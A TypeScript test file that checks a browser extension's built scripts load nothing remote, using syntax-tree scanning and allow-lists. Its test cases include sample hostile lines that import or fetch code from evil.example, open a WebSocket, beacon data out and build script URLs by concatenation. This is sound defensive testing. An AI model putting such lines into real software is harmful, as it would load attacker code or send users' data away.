/** No script of the packages loads or asks for anything from elsewhere: by its syntax tree, because the add-on linter does not look for it. */
import { readdirSync } from 'node:fs';
import { parseAst } from 'rolldown/parseAst';
import { describe, expect, it } from 'vitest';
import { countBar } from '../support/bar-count.ts';
import { builtFile, builtText } from './support/built.ts';

/** Texts with a scheme that are in a script, and what for. A template is cut where something is put in. */
const KNOWN_TEXTS: Readonly<Record<string, string>> = {
  'That is not the address of a site. One looks like http://intranet.example': 'an example for a person to read',
  '<svg xmlns="http://www.w3.org/2000/svg" width="': 'the namespace of a drawing, by which nothing is asked for',
  'http://': 'beginning of an address that is looked at, never asked for',
  '://': 'between scheme and host of an address that is looked at',
  'http://*/*': 'pattern of webRequest',
  'http://127.0.0.1:': 'the probe of the helper, on this machine',
  'chrome://geckoview/content/config.xhtml': 'Firefox’s own page of preferences on Android, told to a person',
  'resource://gre/modules/ExtensionParent.sys.mjs': 'Firefox’s own module, in the Experiment of the lab package',
};
/** What can be asked for: the probe’s pieces, parts of the package, and the file that a person saves. */
const KNOWN_SINKS: readonly RegExp[] = [
  /^fetch\(`http:\/\/127\.0\.0\.1:\$\{\w+\}\/\$\{\w+\}\/\$\{\w+\}`,/,
  /^import\(`\.\.\/views\/(chart|live-card)(-[\w-]+)?\.js`\)$/,
  /^new Worker\(`(\.\.\/views\/(prediction|comparison)|data)-worker\.js`,\{type:`module`\}\)$/,
  // Of the package: the test of all texts would see an address from elsewhere.
  /^new Worker\([\w$]+\.path,\{type:`module`\}\)$/,
  // The Blob of an export, and that of a drawing.
  /^[\w$]+\.(href|src)=[\w$]+$/,
  /^document\.createElement\((`[a-z]+`|\w+)\)$/,
];
/** Elements that load something, made by name. */
const LOADING = /createElement\(.(script|iframe|frame|embed|object|link|img|audio|video|source)\W/;

interface Node {
  readonly type: string;
  readonly start: number;
  readonly end: number;
  readonly [member: string]: unknown;
}

const CALLS =
  /^(fetch|importScripts|eval|Function|Worker|SharedWorker|ServiceWorker|WebSocket|WebTransport|EventSource|XMLHttpRequest|sendBeacon|createElement|createElementNS|executeScript|insertCSS|Image|Audio)$/;
const ASSIGNED = /^(src|srcdoc|srcset|href|action|innerHTML|outerHTML|cssText)$/;

/** Every node, the outer first. */
function* nodesOf(value: unknown): Generator<Node> {
  if (Array.isArray(value)) for (const one of value) yield* nodesOf(one);
  else if (typeof value === 'object' && value !== null) {
    if ('type' in value && typeof value.type === 'string') yield value as Node;
    for (const inner of Object.values(value)) yield* nodesOf(inner);
  }
}

const nameOf = (node: Node): string => {
  if (node.type === 'Identifier') return String(node.name);
  if (node.type !== 'MemberExpression') return '';
  const property = node.property as Node;
  return String(property.type === 'Identifier' && !node.computed ? property.name : (property.value ?? ''));
};

function lookedAt(source: string): { readonly texts: readonly string[]; readonly sinks: readonly string[] } {
  const texts: string[] = [];
  const sinks: string[] = [];
  for (const node of nodesOf(parseAst(source))) {
    const text =
      node.type === 'Literal' ? node.value : node.type === 'TemplateElement' ? (node.value as { cooked: string }).cooked : undefined;
    if (typeof text === 'string' && /(^|[^:\w])\/\/[\w[]|\w:\/\/|^:\/\//.test(text)) texts.push(text);
    const isCall = node.type === 'CallExpression' || node.type === 'NewExpression';
    if (node.type === 'ImportExpression' || (isCall && CALLS.test(nameOf(node.callee as Node))))
      sinks.push(source.slice(node.start, node.end));
    if (node.type === 'AssignmentExpression' && (node.left as Node).type === 'MemberExpression' && ASSIGNED.test(nameOf(node.left as Node)))
      sinks.push(source.slice(node.start, node.end));
    if ((node.type === 'ImportDeclaration' || node.type === 'ExportNamedDeclaration') && node.source) {
      const from = String((node.source as Node).value);
      if (!from.startsWith('.')) sinks.push(`import from ${from}`);
    }
  }
  return { texts, sinks };
}

it.each([
  'import("https://evil.example/a.js")',
  'import x from "https://evil.example/a.js"',
  'importScripts("//evil.example/a.js")',
  'new Worker("https://evil.example/a.js")',
  'document.createElement("script").src = where',
  'element["src"] = "ht" + "tps:" + "//evil.example/a.js"',
  'fetch(where)',
  'new WebSocket("wss://evil.example")',
  'navigator.sendBeacon(where, all)',
  'new Function(text)',
  'element.innerHTML = text',
])('would be seen: %s', (source) => {
  const { texts, sinks } = lookedAt(source);
  const unknown = [...texts.filter((text) => !Object.hasOwn(KNOWN_TEXTS, text)), ...sinks.filter((sink) => !isKnown(sink))];
  expect(unknown).not.toEqual([]);
});

const isKnown = (sink: string): boolean => KNOWN_SINKS.some((known) => known.test(sink)) && !LOADING.test(sink);

it('names no text that is not there', () => {
  const scripts = readdirSync(builtFile('extension-lab'), { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.js'));
  const there = new Set(scripts.flatMap((path) => lookedAt(builtText(`extension-lab/${path}`)).texts));
  expect(Object.keys(KNOWN_TEXTS).filter((text) => !there.has(text))).toEqual([]);
});

describe.each(['release', 'lab'])('the %s package', (variant) => {
  const folder = builtFile(`extension-${variant}`);
  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' });
  const scripts = files.filter((path) => path.endsWith('.js'));
  const all = scripts.map((path) => ({ path, ...lookedAt(builtText(`extension-${variant}/${path}`)) }));

  it('holds no address but those that are named here', () => {
    expect(scripts.length).toBeGreaterThan(8);
    const unknown = all.flatMap(({ path, texts }) =>
      texts.filter((text) => !Object.hasOwn(KNOWN_TEXTS, text)).map((text) => `${path}: ${text}`),
    );
    expect(unknown).toEqual([]);
    countBar(29, 'scripts of a package without a remote address', scripts.length, scripts.length);
  });

  it('asks for nothing but its own parts, and the probe on this machine', () => {
    const unknown = all.flatMap(({ path, sinks }) => sinks.filter((sink) => !isKnown(sink)).map((sink) => `${path}: ${sink}`));
    expect(unknown).toEqual([]);
    // Only where the element is named by what makes it: one place.
    const unnamed = all.flatMap(({ sinks }) => sinks.filter((sink) => /createElement\(\w+\)/.test(sink)));
    expect(unnamed.length).toBeLessThanOrEqual(1);
    expect(all.flatMap(({ sinks }) => sinks.filter((sink) => sink.startsWith('fetch(')))).toHaveLength(1);
  });

  it('names nothing from elsewhere in its pages and style sheets, and has no code but scripts', () => {
    for (const path of files.filter((each) => /\.(html|css|svg|json)$/.test(each))) {
      const text = builtText(`extension-${variant}/${path}`).replaceAll('http://www.w3.org/2000/svg', '');
      expect.soft(text.match(/(?:src|href|url|action)\s*[=(:]\s*["']?(?:\w+:)?\/\/[^\s"')]*/g) ?? [], path).toEqual([]);
      expect.soft(text, path).not.toMatch(/<script(?![^>]*\ssrc=)/);
    }
    expect(files.filter((path) => /\.(wasm|node|so|dll|dylib|exe|sh|py|xpi|jar|bin)$/.test(path))).toEqual([]);
  });
});
